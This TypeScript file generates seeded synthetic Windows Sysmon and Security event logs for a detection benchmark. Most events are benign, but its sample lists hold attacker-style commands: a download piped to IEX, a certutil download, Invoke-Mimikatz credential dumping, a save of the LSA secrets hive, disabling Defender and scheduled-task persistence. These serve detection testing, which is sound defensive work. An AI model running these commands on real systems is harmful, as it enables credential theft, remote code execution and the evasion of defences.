// Deterministic (seeded) Windows events for the detect benchmark, modelled on Sysmon/Security data in
// the flat shape of the OTRF recordings: process creation (Sysmon 1, Security 4688), network (Sysmon 3),
// file creation (Sysmon 11), registry (Sysmon 13) and PowerShell script blocks (4104). Mostly benign
// activity with realistic command lines; a small share resembles attacker tooling.

/** mulberry32: small, fast, seeded. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const hosts = ['WORKSTATION5', 'WORKSTATION6', 'SRV-FILE01', 'SRV-DC01', 'LAPTOP-7H2K'];
const users = ['wardog', 'pgustavo', 'lrodriguez', 'svc_backup', 'SYSTEM'];
const processes: [string, string[]][] = [
  [
    'C:\\Windows\\System32\\svchost.exe',
    ['-k netsvcs -p -s Schedule', '-k LocalServiceNetworkRestricted -p', '-k DcomLaunch -p'],
  ],
  [
    'C:\\Windows\\System32\\cmd.exe',
    [
      '/c ipconfig /all',
      '/c dir C:\\Users\\{u}\\Documents',
      '/c whoami /groups',
      '/c net use \\\\SRV-FILE01\\share',
      '/c echo %PATH%',
    ],
  ],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    [
      '-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1',
      '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      'Get-Process | Sort-Object CPU -Descending | Select-Object -First 10',
      '-Command "Get-Service | Where-Object {$_.Status -eq \'Running\'}"',
    ],
  ],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    [
      '--type=renderer --lang=en-US --field-trial-handle=1712,2361',
      '--type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
    ],
  ],
  [
    'C:\\Windows\\System32\\rundll32.exe',
    [
      'C:\\Windows\\System32\\shell32.dll,Control_RunDLL',
      'printui.dll,PrintUIEntry /in /n \\\\SRV-FILE01\\printer',
    ],
  ],
  [
    'C:\\Windows\\System32\\reg.exe',
    [
      'query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      'save HKLM\\security\\policy\\secrets C:\\Users\\{u}\\AppData\\Local\\Temp\\secrets',
    ],
  ],
  [
    'C:\\Windows\\System32\\schtasks.exe',
    ['/create /tn Updater /tr C:\\ProgramData\\upd.exe /sc daily', '/query /fo LIST /v'],
  ],
  ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', ['-secured -Embedding', '-Embedding']],
  ['C:\\Users\\{u}\\Downloads\\PSTools\\PsExec.exe', ['-accepteula -s \\\\SRV-DC01 cmd.exe']],
  [
    'C:\\Windows\\System32\\certutil.exe',
    [
      '-urlcache -split -f http://10.0.4.7/a.txt C:\\Users\\Public\\a.txt',
      '-hashfile C:\\Temp\\setup.msi SHA256',
    ],
  ],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    ['/n "C:\\Users\\{u}\\Documents\\Quarterly report.docx" /o ""'],
  ],
  ['C:\\Windows\\System32\\msiexec.exe', ['/i C:\\Temp\\setup.msi /qn', '/V']],
];
const scripts = [
  'Get-ChildItem -Path C:\\Users -Recurse -Filter *.docx | Measure-Object',
  '$wc = New-Object System.Net.WebClient; $wc.DownloadString("http://10.0.4.7/stage2.ps1") | IEX',
  'Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv C:\\Temp\\users.csv',
  'function Get-Uptime { (Get-Date) - (Get-CimInstance Win32_OperatingSystem).LastBootUpTime }',
  '[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b)); Invoke-Mimikatz -DumpCreds',
  'Set-MpPreference -DisableRealtimeMonitoring $true',
];
const regKeys = [
  'HKU\\S-1-5-21-3940915590-64593676-1414006259-500\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FeatureUsage\\AppSwitched\\{1AC14E77-02E7-4E5D-B744-2EB1AE5198B7}\\cmd.exe',
  'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-3940915590-64593676-1414006259-500\\\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe',
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
  'HKLM\\System\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin',
];
const files = [
  'C:\\Windows\\ServiceState\\EventLog\\Data\\lastalive1.dat',
  'C:\\Users\\{u}\\AppData\\Local\\Temp\\~DF3A1B.tmp',
  'C:\\Windows\\Prefetch\\CMD.EXE-0BD30981.pf',
  'C:\\Users\\Public\\a.txt',
  'C:\\ProgramData\\upd.exe',
];

function hex(r: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789ABCDEF'[Math.floor(r() * 16)];
  return s;
}

/** `count` events as JSON lines, identical for the same seed. */
export function generateEvents(count: number, seed = 1): string[] {
  const r = rng(seed);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)] as T;
  const out: string[] = [];
  let t = Date.UTC(2024, 2, 1, 8);
  for (let i = 0; i < count; i++) {
    t += Math.floor(r() * 400);
    const time = new Date(t).toISOString().replace('T', ' ').replace('Z', '');
    const host = pick(hosts);
    const user = pick(users);
    const guid = `{39e4a257-${hex(r, 4)}-5f8b-${hex(r, 4)}-000000000700}`.toLowerCase();
    const pid = String(1000 + Math.floor(r() * 9000));
    const [image0, args] = pick(processes);
    const image = image0.replace('{u}', user);
    const cmd = `"${image}" ${pick(args).replace('{u}', user)}`;
    const x = r();
    const sysmon = {
      SourceName: 'Microsoft-Windows-Sysmon',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Hostname: host,
      TimeCreated: time,
      UtcTime: time,
      ProcessGuid: guid,
      ProcessId: pid,
      RuleName: '-',
    };
    let ev: Record<string, unknown>;
    if (x < 0.3) {
      const [parent0] = pick(processes);
      ev = {
        ...sysmon,
        EventID: 1,
        Task: '1',
        Image: image,
        CommandLine: cmd,
        CurrentDirectory: `C:\\Users\\${user}\\`,
        User: `${host}\\${user}`,
        LogonId: `0x${hex(r, 5)}`,
        IntegrityLevel: pick(['Medium', 'High', 'System']),
        Hashes: `SHA1=${hex(r, 40)},MD5=${hex(r, 32)},SHA256=${hex(r, 64)},IMPHASH=${hex(r, 32)}`,
        ParentProcessGuid: guid,
        ParentProcessId: String(1000 + Math.floor(r() * 9000)),
        ParentImage: parent0.replace('{u}', user),
        ParentCommandLine: `"${parent0.replace('{u}', user)}"`,
        OriginalFileName: image.split('\\').pop(),
        Description: 'Windows Command Processor',
        Product: 'Microsoft® Windows® Operating System',
        Company: 'Microsoft Corporation',
      };
    } else if (x < 0.45) {
      ev = {
        Channel: 'Security',
        EventID: 4688,
        Task: '13312',
        Hostname: host,
        TimeCreated: time,
        SubjectUserName: user,
        SubjectDomainName: host,
        SubjectUserSid: 'S-1-5-21-3940915590-64593676-1414006259-500',
        SubjectLogonId: `0x${hex(r, 5)}`,
        NewProcessId: `0x${hex(r, 4)}`,
        NewProcessName: image,
        CommandLine: cmd,
        TokenElevationType: '%%1936',
        ProcessId: `0x${hex(r, 4)}`,
        ParentProcessName: pick(processes)[0].replace('{u}', user),
        TargetLogonId: '0x0',
        MandatoryLabel: 'S-1-16-12288',
      };
    } else if (x < 0.65) {
      const v6 = r() < 0.2;
      ev = {
        ...sysmon,
        EventID: 3,
        Task: '3',
        Image: image,
        User: `NT AUTHORITY\\SYSTEM`,
        Protocol: pick(['tcp', 'udp']),
        Initiated: 'true',
        SourceIsIpv6: String(v6),
        SourceIp: v6
          ? 'fe80:0:0:0:90e:17af:263c:5209'
          : `10.0.${Math.floor(r() * 8)}.${Math.floor(r() * 250)}`,
        SourceHostname: `${host}.theshire.local`,
        SourcePort: String(49152 + Math.floor(r() * 16000)),
        DestinationIsIpv6: String(v6),
        DestinationIp: v6
          ? 'fe80:0:0:0:1c3:8a0f:3b1:77'
          : `${pick(['10.0.4.7', '172.16.3.1', '52.96.12.34', '140.82.112.3'])}`,
        DestinationHostname: pick(['-', 'github.com', 'outlook.office365.com']),
        DestinationPort: pick(['443', '80', '445', '3389', '53']),
        DestinationPortName: '-',
      };
    } else if (x < 0.8) {
      ev = {
        ...sysmon,
        EventID: 11,
        Task: '11',
        Image: image,
        TargetFilename: pick(files).replace('{u}', user),
        CreationUtcTime: time,
      };
    } else if (x < 0.93) {
      ev = {
        ...sysmon,
        EventID: 13,
        Task: '13',
        EventType: 'SetValue',
        Image: image,
        TargetObject: pick(regKeys),
        Details: pick(['DWORD (0x00000001)', 'C:\\ProgramData\\upd.exe', 'Binary Data']),
      };
    } else {
      ev = {
        Channel: 'Microsoft-Windows-PowerShell/Operational',
        EventID: 4104,
        Task: '2',
        Hostname: host,
        TimeCreated: time,
        MessageNumber: '1',
        MessageTotal: '1',
        ScriptBlockText: pick(scripts),
        ScriptBlockId: guid.slice(1, -1),
        Path: r() < 0.5 ? '' : 'C:\\Scripts\\inventory.ps1',
      };
    }
    out.push(JSON.stringify(ev));
  }
  return out;
}
